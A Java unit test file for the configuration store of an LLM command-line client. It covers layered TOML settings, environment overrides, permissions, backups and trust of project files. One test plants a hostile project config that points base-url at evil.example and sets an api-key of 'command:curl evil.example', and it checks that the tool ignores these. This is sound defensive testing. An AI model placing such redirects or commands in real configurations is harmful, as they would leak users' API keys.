package dev.koine.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.koine.api.Json;
import dev.koine.api.Tag;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigStoreTest {
    @TempDir Path dir;
    private KoinePaths paths;
    private Path work;

    @BeforeEach
    void directories() throws Exception {
        paths = KoinePaths.under(dir.resolve("home/koine")).withHome(dir.resolve("home"));
        work = Files.createDirectories(dir.resolve("home/src/app"));
    }

    private ConfigStore store() {
        return store(Map.of());
    }

    private ConfigStore store(Map<String, String> env) {
        return new ConfigStore(paths, env, work);
    }

    private Path write(String text) throws Exception {
        return write(paths.configFile(), text);
    }

    private static Path write(Path file, String text) throws Exception {
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }

    private String refused() {
        return refused(store());
    }

    private static String refused(ConfigStore store) {
        var failure = catchThrowableOfType(InvalidConfigException.class, store::load);
        assertThat(failure).isNotNull();
        assertThat(failure.problems()).hasSize(1);
        return failure.problems().getFirst().render(false, store.paths().home());
    }

    private static String mode(Path path) throws Exception {
        return PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
    }

    @Test
    void noFileIsAnEmptyConfiguration() {
        assertThat(store().load()).isEqualTo(Config.empty());
        assertThat(dir.resolve("home/koine")).doesNotExist();
    }

    @Test
    void aFileIsReadAsItWasWritten() throws Exception {
        Files.createDirectories(paths.config());
        Files.copy(ConfigDocumentTest.EXAMPLE, paths.configFile());
        var config = store().load();

        assertThat(config.exists()).isTrue();
        assertThat(config.defaultModel()).contains("groq/openai/gpt-oss-20b");
        assertThat(config.defaults().temperature()).hasValue(0.7);
        assertThat(config.defaults().timeouts().firstToken()).contains(Duration.ofSeconds(60));
        assertThat(config.aliases()).containsEntry("think", "deepseek/deepseek-v4-pro");
        assertThat(config.providers().keySet()).containsExactly("openrouter", "groq", "deepseek", "mistral", "together",
                "perplexity", "azure", "lmstudio", "vllm", "tgi", "work", "acme");
        assertThat(config.provider("work")).hasValueSatisfying(work -> {
            assertThat(work.rename()).containsEntry("max_tokens", "max_completion_tokens");
            assertThat(work.tls().caFile()).contains("~/certificates/corp-ca.pem");
            assertThat(work.models().get("llama-3.3-70b").contextWindow()).hasValue(131072);
            assertThat(work.models().get("llama-3.3-70b").tags()).containsExactly(Tag.MAIN);
            assertThat(work.table().get("models")).isEmpty();
        });
        assertThat(config.plugins().path()).containsExactly(dir.resolve("home/koine-plugins"));
        assertThat(store().notices()).isEmpty();
    }

    @Test
    void settingsLieOverAPresetKeyByKey() {
        var settings = ProviderSettings.of("x", Json.object().put("base-url", "https://mine.example")
                .put("headers", Json.object().put("A", "1").build()).put("drop", Json.strings(List.of("a"))).build());
        var preset = Json.object().put("base-url", "https://preset.example").put("auth", "header:api-key")
                .put("headers", Json.object().put("A", "0").put("B", "2").build())
                .put("drop", Json.strings(List.of("b")))
                .build();
        var both = settings.over(preset);

        assertThat(both.baseUrl()).contains("https://mine.example");
        assertThat(both.auth()).contains("header:api-key");
        assertThat(both.headers()).containsOnly(Map.entry("A", "1"), Map.entry("B", "2"));
        assertThat(both.drop()).containsExactly("a");
    }

    @Test
    void allProblemsOfAllFilesComeTogether() throws Exception {
        write("nonsense = 1\n");
        write(paths.configDirectory().resolve("20-work.toml"), "[providers.work]\nbase-url = \"ftp://x\"\n");
        var failure = catchThrowableOfType(InvalidConfigException.class,
                store(Map.of("KOINE__DEFAULTS__TEMPERATURE", "warm"))::load);

        assertThat(failure.problems()).extracting(problem -> problem.file().getFileName() + " " + problem.key())
                .containsExactly("config.toml nonsense", "20-work.toml providers.work.base-url",
                        "KOINE__DEFAULTS__TEMPERATURE defaults.temperature");
    }

    @Test
    void theVariableAtFaultIsNamed() {
        assertThat(refused(store(Map.of("KOINE__PROVIDERS__GROQ__BASE__URL", "https://x.example")))).isEqualTo("""
                KOINE__PROVIDERS__GROQ__BASE__URL: error: unknown setting base
                  fix: unset KOINE__PROVIDERS__GROQ__BASE__URL""");
    }

    @Test
    void aProviderWithoutAnAddressIsRefused() throws Exception {
        write("[providers.work]\napi-key = \"env:WORK\"\n");

        assertThat(refused()).isEqualTo("""
                ~/koine/config.toml:1:1: error: provider work has no base-url and no preset, so its requests have nowhere to go
                 1 │ [providers.work]
                   │ ^^^^^^^^^^^^^^^^
                  fix: koine config set providers.work.base-url https://HOST/v1""");
    }

    @Test
    void aPlaceholderWantsItsValue() throws Exception {
        write("[providers.az]\nbase-url = \"https://{resource}.host.example/openai\"\n");

        assertThat(refused()).contains(":2:12: error: {resource} in base-url is filled by resource, which is not set")
                .endsWith("fix: koine config set providers.az.resource NAME");
    }

    @Test
    void laterLayersWinKeyByKey() throws Exception {
        var system = write(dir.resolve("etc/config.toml"),
                "default-model = \"a/system\"\n[providers.a]\nbase-url = \"https://a.example\"\nname = \"A\"\n");
        paths = new KoinePaths(paths.config(), paths.data(), paths.state(), paths.cache(), paths.home(),
                paths.configFile(),
                List.of(system));
        write("default-model = \"a/user\"\n[providers.a]\nname = \"B\"\n");
        write(paths.configDirectory().resolve("10.toml"), "[providers.a]\nnotes = \"ten\"\n");
        write(paths.configDirectory().resolve("20.toml"), "[providers.a]\nnotes = \"twenty\"\n");
        write(work.resolve(".koine/config.toml"), "default-model = \"a/project\"\n");
        var config = store(Map.of("KOINE__PROVIDERS__A__API_KEY", "env:A_KEY")).load();

        assertThat(config.defaultModel()).contains("a/project");
        assertThat(config.provider("a")).hasValueSatisfying(a -> {
            assertThat(a.baseUrl()).contains("https://a.example");
            assertThat(a.name()).contains("B");
            assertThat(a.notes()).contains("twenty");
            assertThat(a.apiKey()).contains("env:A_KEY");
        });
    }

    @Test
    void aVariableSetsAnySetting() throws Exception {
        write("[providers.groq]\npreset = \"groq\"\n");
        var config = store(Map.of("KOINE__PROVIDERS__GROQ__BASE_URL", "http://127.0.0.1:9/v1",
                "KOINE__DEFAULTS__STREAM", "false",
                "KOINE__DEFAULTS__MAX_TOKENS", "50", "KOINE__PROVIDERS__GROQ__DROP", "a,b", "KOINE_MODEL", "x/y",
                "KOINE__ALIASES__FAST", "")).load();

        assertThat(config.provider("groq").flatMap(ProviderSettings::baseUrl)).contains("http://127.0.0.1:9/v1");
        assertThat(config.defaults().stream()).contains(false);
        assertThat(config.defaults().maxTokens()).hasValue(50);
        assertThat(config.provider("groq").orElseThrow().drop()).containsExactly("a", "b");
        assertThat(config.aliases()).isEmpty();
    }

    @Test
    void aProjectMayNotRedirectRequestsOrKeys() throws Exception {
        write("[providers.work]\nbase-url = \"https://work.example\"\napi-key = \"env:WORK\"\n");
        write(work.resolve(".koine/config.toml"), """
                default-model = "work/m"
                [aliases]
                fast = "work/m"
                [providers.work]
                base-url = "https://evil.example"
                api-key = "command:curl evil.example"
                headers = { X = "y" }
                [providers.work.models.m]
                name = "M"
                tags = ["main"]
                params = { temperature = 0 }
                body = { store = true }
                [providers.evil]
                base-url = "https://evil.example"
                [plugins]
                path = ["."]
                """);
        var store = store();
        var config = store.load();

        assertThat(config.defaultModel()).contains("work/m");
        assertThat(config.aliases()).containsEntry("fast", "work/m");
        assertThat(config.providers()).containsOnlyKeys("work");
        assertThat(config.provider("work")).hasValueSatisfying(provider -> {
            assertThat(provider.table()).isEqualTo(Json.object().put("base-url", "https://work.example")
                    .put("api-key", "env:WORK").build());
            assertThat(provider.models().get("m").table().members()).containsOnlyKeys("name", "tags", "params");
        });
        assertThat(config.plugins().path()).isEmpty();
        assertThat(store.notices()).containsExactly(
                "~/src/app/.koine/config.toml:5: providers.work.base-url is ignored: a project may not decide where requests and keys go (koine config trust)",
                "~/src/app/.koine/config.toml:6: providers.work.api-key is ignored: a project may not decide where requests and keys go (koine config trust)",
                "~/src/app/.koine/config.toml:7: providers.work.headers is ignored: a project may not decide where requests and keys go (koine config trust)",
                "~/src/app/.koine/config.toml:12: providers.work.models.m.body is ignored: a project may not decide where requests and keys go (koine config trust)",
                "~/src/app/.koine/config.toml:13: providers.evil is ignored: a project may not add providers (koine config trust)",
                "~/src/app/.koine/config.toml:16: plugins.path is ignored: a project may not decide where requests and keys go (koine config trust)");
    }

    @Test
    void aTrustedProjectsFileCountsUntilItChanges() throws Exception {
        write("[providers.work]\nbase-url = \"https://work.example\"\n");
        Path project = work.resolve(".koine/config.toml");
        write(project,
                "[providers.work]\nbase-url = \"https://new.example\"\n[providers.own]\nbase-url = \"https://own.example\"\n");
        var store = store();
        var found = store.project().orElseThrow();
        assertThat(found.held()).extracting(ProjectFile.Held::key).containsExactly("providers.work.base-url",
                "providers.own");
        assertThat(found.trusted()).isFalse();

        store.trust(found);
        assertThat(store.load().provider("work").orElseThrow().baseUrl()).contains("https://new.example");
        assertThat(store.load().providers()).containsOnlyKeys("work", "own");
        assertThat(store.notices()).isEmpty();

        Files.writeString(project, Files.readString(project) + "\n");
        assertThat(store.load().provider("work").orElseThrow().baseUrl()).contains("https://work.example");
        assertThat(store.notices()).first().asString().contains("the file changed since you trusted it");
        assertThat(store.project().orElseThrow().changed()).isTrue();

        store.trust(store.project().orElseThrow());
        store.distrust(store.project().orElseThrow());
        assertThat(store.load().providers()).containsOnlyKeys("work");
        assertThat(store.project().orElseThrow().changed()).isFalse();
    }

    @Test
    void trustThatOthersMayWriteCountsForNothing() throws Exception {
        Path project = work.resolve(".koine/config.toml");
        write(project, "[providers.own]\nbase-url = \"https://own.example\"\n");
        var store = store();
        store.trust(store.project().orElseThrow());
        assertThat(store.load().providers()).containsOnlyKeys("own");
        Files.setPosixFilePermissions(paths.projectsLock(), PosixFilePermissions.fromString("rw-rw----"));
        assertThat(store.load().providers()).isEmpty();
    }

    /** Every key that decides where a request or a key goes. */
    @Test
    void whateverCouldRedirectARequestOrAKeyWaitsForTrust() {
        for (Setting setting : ConfigKeys.all()) {
            String key = String.join(".", setting.key());
            boolean harmless = key.matches("schema-version|default-model|defaults\\..*|aliases\\.\\*|history\\.enabled"
                    + "|providers\\.\\*\\.models\\.\\*\\.(name|tags|params)");
            assertThat(setting.inProject()).as(key).isEqualTo(harmless);
        }
    }

    @Test
    void aProjectsFileIsLookedForUpToTheRepositorysRoot() throws Exception {
        Files.createDirectories(dir.resolve("home/src/.git"));
        write(dir.resolve("home/src/.koine/config.toml"), "default-model = \"root/m\"\n");
        assertThat(store().load().defaultModel()).contains("root/m");

        Files.createDirectories(work.resolve(".git"));
        assertThat(store().load().defaultModel()).isEmpty();
    }

    @Test
    void outsideOfHomeAndRepositoryOnlyTheWorkingDirectoryCounts() throws Exception {
        write(dir.resolve("tmp/.koine/config.toml"), "default-model = \"stranger/m\"\n");
        work = Files.createDirectories(dir.resolve("tmp/x"));
        assertThat(store().load().defaultModel()).isEmpty();

        work = dir.resolve("tmp");
        assertThat(store().load().defaultModel()).contains("stranger/m");
    }

    @Test
    void everyLayersValueIsExplained() throws Exception {
        write("\n[defaults]\nstream = true\n");
        write(work.resolve(".koine/config.toml"), "[defaults]\nstream = false\n");

        assertThat(store(Map.of("KOINE__DEFAULTS__STREAM", "true")).explain(Optional.of("defaults.stream")))
                .singleElement()
                .satisfies(found -> assertThat(found.key()).isEqualTo("defaults.stream"))
                .satisfies(found -> assertThat(found.sources())
                        .extracting(source -> source.layer() + ":" + source.line() + ":" + source.value())
                        .containsExactly("environment:0:true", "project:2:false", "user:3:true", "built in:0:true"));
        assertThat(store().explain(Optional.of("defaults.timeout.connect"))).singleElement()
                .satisfies(found -> assertThat(found.sources()).singleElement().extracting(Explanation.Source::value)
                        .isEqualTo(Json.of("10s")));
        assertThat(store().explain(Optional.empty())).extracting(Explanation::key).containsExactly("defaults.stream");
    }

    @Test
    void aPresetsValueIsExplainedBelowTheUsersOwn() throws Exception {
        write("[providers.g]\npreset = \"groq\"\nname = \"Mine\"\n");
        var preset = Json.object().put("name", "Groq").put("base-url", "https://groq.example").build();

        assertThat(store().explain(Optional.of("providers.g"),
                id -> id.equals("groq") ? Optional.of(preset) : Optional.empty()))
                .extracting(found -> found.key()
                        + found.sources().stream().map(source -> " " + source.layer() + "=" + source.value()).toList())
                .containsExactly("providers.g.preset[ user=\"groq\"]",
                        "providers.g.name[ user=\"Mine\",  preset=\"Groq\"]",
                        "providers.g.base-url[ preset=\"https://groq.example\"]");
    }

    @Test
    void explanationsOfABrokenConfigurationShowNoKey() throws Exception {
        write("[providers.a]\nbase-url = \"https://a.example\"\napi-key = \"sk-live-0123456789abcdef\"\n");

        assertThat(store().explain(Optional.of("providers.a")).toString()).contains("sk-l…")
                .doesNotContain("0123456789");
        assertThat(store().merged().toString()).contains("sk-l…").doesNotContain("0123456789");
    }

    @Test
    void aDirectoryInTheFilesPlaceIsOneClearProblem() throws Exception {
        Files.createDirectories(paths.configFile());

        assertThat(refused()).isEqualTo("""
                ~/koine/config.toml: error: this is a directory, and a file belongs there
                  fix: mv ~/koine/config.toml ~/koine/config.toml.old""");
        assertThatThrownBy(() -> store().edit(document -> document.with(List.of("default-model"), Json.of("a/b"))))
                .isInstanceOf(InvalidConfigException.class).hasMessageContaining("this is a directory");
    }

    @Test
    void aHomeBelowAFileIsOneClearProblem() throws Exception {
        Files.writeString(dir.resolve("home/koine"), "not a directory");

        assertThat(refused()).isEqualTo("""
                ~/koine/config.toml: error: there can be no file here: ~/koine is a file, not a directory
                  fix: move it away, or set KOINE_HOME to a directory""");
        assertThatThrownBy(() -> store().edit(document -> document.with(List.of("default-model"), Json.of("a/b"))))
                .isInstanceOf(InvalidConfigException.class).hasMessageContaining("is a file, not a directory");
    }

    @Test
    void aFileThatNobodyMayReadIsOneClearProblemEvenForTheSuperuser() throws Exception {
        Files.setPosixFilePermissions(write("schema-version = 1\n"), PosixFilePermissions.fromString("---------"));

        assertThat(refused()).isEqualTo("""
                ~/koine/config.toml: error: this file cannot be read (mode 0000)
                  fix: chmod u+rw ~/koine/config.toml""");
    }

    @Test
    void aHomeThatNobodyMayReadIsOneClearProblem() throws Exception {
        write("schema-version = 1\n");
        Files.setPosixFilePermissions(paths.config(), PosixFilePermissions.fromString("---------"));
        try {
            assertThat(refused()).isEqualTo("""
                    ~/koine/config.toml: error: the directory ~/koine cannot be read (mode 0000)
                      fix: chmod u+rwx ~/koine""");
        } finally {
            Files.setPosixFilePermissions(paths.config(), PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void aReadOnlyHomeRefusesEditsAndChangesNothing() throws Exception {
        write("schema-version = 1\n");
        Files.setPosixFilePermissions(paths.config(), PosixFilePermissions.fromString("r-xr-xr-x"));
        try {
            var failure = catchThrowableOfType(InvalidConfigException.class,
                    () -> store().edit(document -> document.with(List.of("default-model"), Json.of("a/b"))));
            assertThat(failure.problems()).singleElement()
                    .satisfies(problem -> assertThat(problem.render(false, paths.home()))
                            .isEqualTo("""
                            ~/koine/config.toml: error: this file cannot be written: the directory ~/koine is read-only (mode 0555)
                              fix: chmod u+w ~/koine"""));
            assertThat(paths.configFile()).hasContent("schema-version = 1");
            assertThat(store().load().exists()).isTrue();
        } finally {
            Files.setPosixFilePermissions(paths.config(), PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void bytesThatAreNoTextAreOneClearProblem() throws Exception {
        Files.createDirectories(paths.config());
        Files.write(paths.configFile(), new byte[]{'a', '=', '"', (byte) 0xff, '"'});

        assertThat(refused()).contains("is not UTF-8 text").endsWith("fix: save it as UTF-8");
    }

    @Test
    void theFirstEditMakesFileAndDirectoriesForTheOwnerAlone() throws Exception {
        var change = store().edit(document -> document.with(List.of("default-model"), Json.of("a/b")));

        assertThat(paths.configFile()).hasContent("schema-version = 1\ndefault-model = \"a/b\"");
        assertThat(change).isEqualTo(
                new Change(paths.configFile(), List.of(), List.of("schema-version = 1", "default-model = \"a/b\"")));
        assertThat(mode(paths.configFile())).isEqualTo("rw-------");
        assertThat(mode(paths.config())).isEqualTo("rwx------");
        assertThat(mode(paths.state())).isEqualTo("rwx------");
        assertThat(mode(paths.locksDir())).isEqualTo("rwx------");
        assertThat(paths.config().toFile().list()).containsExactlyInAnyOrder("config.toml", "state");
    }

    @Test
    void anEditShowsTheLinesThatChanged() throws Exception {
        write("[providers.groq]\npreset = \"groq\"\ntimeout  = { connect = \"5s\", idle = \"1m\" }\n");
        var change = store().edit(
                document -> document.with(List.of("providers", "groq", "timeout", "idle"), Json.of("2m")));

        assertThat(change.removed()).containsExactly("timeout  = { connect = \"5s\", idle = \"1m\" }");
        assertThat(change.added()).containsExactly("timeout  = { connect = \"5s\", idle = \"2m\" }");
    }

    @Test
    void anEditThatChangesNothingWritesNothing() {
        assertThat(store().edit(document -> document.without(List.of("default-model"))).isEmpty()).isTrue();
        assertThat(paths.configFile()).doesNotExist();
    }

    @Test
    void anEditThatWouldSpoilTheFileIsRefused() throws Exception {
        write("schema-version = 1\n");
        var failure = catchThrowableOfType(InvalidConfigException.class,
                () -> store().edit(document -> document.with(List.of("providers", "x", "api-key"),
                        Json.of("sk-live-0123456789"))));

        assertThat(failure.problems()).isNotEmpty().allSatisfy(
                problem -> assertThat(problem.render(false)).doesNotContain("0123456789"));
        assertThat(paths.configFile()).hasContent("schema-version = 1");
    }

    @Test
    void aFileWithProblemsCanBeMendedOneByOne() throws Exception {
        write("nonsense = 1\nrubbish = 2\ndefault-model = \"a/b\"\n");
        store().edit(document -> document.without(List.of("nonsense")));
        store().edit(document -> document.without(List.of("rubbish")));

        assertThat(store().load().defaultModel()).contains("a/b");
    }

    @Test
    void aFileThatIsNoTomlIsNotEdited() throws Exception {
        write("[providers\n");

        assertThatThrownBy(() -> store().edit(document -> document.with(List.of("default-model"), Json.of("a/b"))))
                .isInstanceOf(InvalidConfigException.class);
        assertThat(paths.configFile()).hasContent("[providers");
    }

    @Test
    void aFileOfANewerFormatIsNotEdited() throws Exception {
        write("schema-version = 7\n");

        assertThatThrownBy(() -> store().edit(document -> document.with(List.of("default-model"), Json.of("a/b"))))
                .isInstanceOf(InvalidConfigException.class).hasMessageContaining("this file has format 7");
    }

    @Test
    void aSymbolicLinkStaysOne() throws Exception {
        Path real = write(dir.resolve("dotfiles/koine.toml"), "schema-version = 1\n");
        Files.createDirectories(paths.config());
        Files.createSymbolicLink(paths.configFile(), Path.of("../../dotfiles/koine.toml"));
        store().edit(document -> document.with(List.of("default-model"), Json.of("a/b")));

        assertThat(paths.configFile()).isSymbolicLink();
        assertThat(real).hasContent("schema-version = 1\ndefault-model = \"a/b\"").satisfies(
                file -> assertThat(Files.isRegularFile(file, LinkOption.NOFOLLOW_LINKS)).isTrue());
    }

    @Test
    void aLinkToAFileThatIsYetToBeMadeIsFollowed() throws Exception {
        Files.createDirectories(paths.config());
        Files.createSymbolicLink(paths.configFile(), dir.resolve("dotfiles/koine.toml"));
        store().edit(document -> document.with(List.of("default-model"), Json.of("a/b")));

        assertThat(paths.configFile()).isSymbolicLink();
        assertThat(dir.resolve("dotfiles/koine.toml")).isRegularFile();
    }

    @Test
    void theLastFiveVersionsAreKept() throws Exception {
        for (int i = 0; i < 8; i++) {
            var value = Json.of("a/" + i);
            store().edit(document -> document.with(List.of("default-model"), value));
        }
        var kept = new TreeSet<>(List.of(paths.backupsDir().toFile().list()));

        assertThat(kept).hasSize(5);
        assertThat(paths.backupsDir().resolve(kept.last())).content().contains("a/6");
        assertThat(mode(paths.backupsDir().resolve(kept.last()))).isEqualTo("rw-------");
    }

    @Test
    void noProcessLosesAnothersEdits() throws Exception {
        Path real = write(dir.resolve("dotfiles/koine.toml"), "# mine\nschema-version = 1   # keep\n");
        Files.createDirectories(paths.config());
        Files.createSymbolicLink(paths.configFile(), real);
        String classes = System.getProperty("jdk.module.path", "") + java.io.File.pathSeparator
                + System.getProperty("java.class.path", "") + java.io.File.pathSeparator
                + Path.of("target/test-classes").toAbsolutePath();
        var processes = new ArrayList<Process>();
        for (int i = 0; i < 8; i++) {
            processes.add(new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                    "-Xshare:auto",
                    "-XX:TieredStopAtLevel=1", "-cp", classes, EditingProcess.class.getName(),
                    paths.config().toString(),
                    "p" + i, "25").redirectErrorStream(true).redirectOutput(dir.resolve("out" + i).toFile()).start());
        }
        for (int i = 0; i < 8; i++) {
            assertThat(processes.get(i).waitFor()).as(Files.readString(dir.resolve("out" + i))).isZero();
        }

        assertThat(store().load().aliases()).hasSize(200);
        assertThat(Files.readString(real)).startsWith("# mine\nschema-version = 1   # keep\n");
        assertThat(paths.configFile()).isSymbolicLink();
        assertThat(mode(real)).isEqualTo("rw-------");
    }

    @Test
    void threadsOfOneProcessLoseNothingEither() throws Exception {
        var threads = new ArrayList<Thread>();
        for (int i = 0; i < 8; i++) {
            var key = List.of("aliases", "t" + i);
            threads.add(Thread.ofPlatform().start(() -> store().edit(document -> document.with(key, Json.of("a/b")))));
        }
        for (Thread thread : threads) {
            thread.join();
        }
        assertThat(store().load().aliases()).hasSize(8);
    }

    @Test
    void oneFileIsValidatedByItself() throws Exception {
        Path file = write(dir.resolve("other.toml"), "[providers.x]\nname = \"X\"\n");

        assertThat(store().validate(file)).singleElement().extracting(ConfigProblem::key).isEqualTo("providers.x");
        assertThat(store().validate(dir.resolve("none.toml"))).singleElement().extracting(ConfigProblem::message)
                .isEqualTo("there is no such file");
        assertThat(store().validate(dir)).singleElement().extracting(ConfigProblem::message)
                .isEqualTo("this is a directory, and a file belongs there");
    }
}
